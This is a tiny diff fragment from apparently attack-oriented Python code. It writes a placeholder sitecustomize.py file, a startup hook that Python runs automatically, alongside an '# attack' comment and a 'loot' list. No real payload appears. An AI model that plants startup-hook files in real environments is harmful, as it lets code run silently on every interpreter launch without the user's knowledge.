@@ -10,7 +10,6 @@ import os
 open("sitecustomize.py", "w").write("x = 1") == 5
 
 # attack
-import sys
 import importlib.util
 
 loot = []
